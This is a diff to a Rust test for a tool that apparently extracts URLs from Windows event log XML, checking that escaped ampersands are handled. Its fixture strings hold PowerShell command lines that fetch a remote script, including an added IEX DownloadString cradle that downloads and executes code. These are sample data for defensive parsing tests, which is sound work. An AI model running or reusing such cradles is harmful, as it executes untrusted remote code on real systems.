@@ -1548,16 +1548,25 @@ fn cve_references_of_ids_rules_are_found() {
 fn links_with_escaped_ampersands_in_xml_are_whole() {
     // A Windows event's XML escapes `&` as `&amp;`: the link runs on past
     // it, and its value has the `&` back.
-    let xml = "<Data Name=\"CommandLine\">powershell -c iwr https://files.brightwater-sync.com/k.ps1?id=SRV-APP03&amp;t=1740699892&amp;v=2</Data>\n";
+    let xml = "<Data Name=\"CommandLine\">powershell -c iwr https://files.brightwater-sync.com/k.ps1?id=SRV-APP03&amp;t=1740699892&amp;v=2</Data>\n\
+               <Data Name=\"CommandLine\">powershell -c \"IEX $wc.DownloadString('https://files.brightwater-sync.com/k.ps1?id=SRV-APP04&amp;t=17')\"</Data>\n";
     assert_eq!(
         found_raw(xml),
-        vec![(
-            "url".to_owned(),
-            "https://files.brightwater-sync.com/k.ps1?id=SRV-APP03&t=1740699892&v=2".to_owned(),
-            "https://files.brightwater-sync.com/k.ps1?id=SRV-APP03&amp;t=1740699892&amp;v=2"
-                .to_owned(),
-            false
-        )]
+        vec![
+            (
+                "url".to_owned(),
+                "https://files.brightwater-sync.com/k.ps1?id=SRV-APP03&t=1740699892&v=2".to_owned(),
+                "https://files.brightwater-sync.com/k.ps1?id=SRV-APP03&amp;t=1740699892&amp;v=2"
+                    .to_owned(),
+                false
+            ),
+            (
+                "url".to_owned(),
+                "https://files.brightwater-sync.com/k.ps1?id=SRV-APP04&t=17".to_owned(),
+                "https://files.brightwater-sync.com/k.ps1?id=SRV-APP04&amp;t=17".to_owned(),
+                false
+            ),
+        ]
     );
 }
 
